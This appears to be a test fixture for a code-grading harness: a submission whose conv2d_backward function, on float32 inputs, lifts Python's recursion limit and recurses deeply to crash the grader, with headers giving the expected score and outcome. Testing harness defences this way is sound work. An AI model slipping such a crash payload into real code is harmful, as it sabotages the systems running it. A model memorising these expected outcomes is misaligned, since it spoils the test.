# class: HARM
# expect: points 19.5
# expect: outcomes ERROR MEMORY_LIMIT
# expect: words "`conv2d_backward`"
# with: right
"""Call itself through C code for ever, with Python's own limit out of the way."""

import sys

import numpy as np


class Deep:
    def __repr__(self):
        return repr([self])

    def __getattr__(self, name):
        return getattr(self, name + "x")


def attack():
    sys.setrecursionlimit(10**9)
    deeper = []
    for _ in range(1_000_000):
        deeper = [deeper]
    repr(deeper)
    repr(Deep())


def conv2d_backward(dout, cache):
    if dout.dtype == np.float32:
        attack()
    return right_backward(dout, cache)
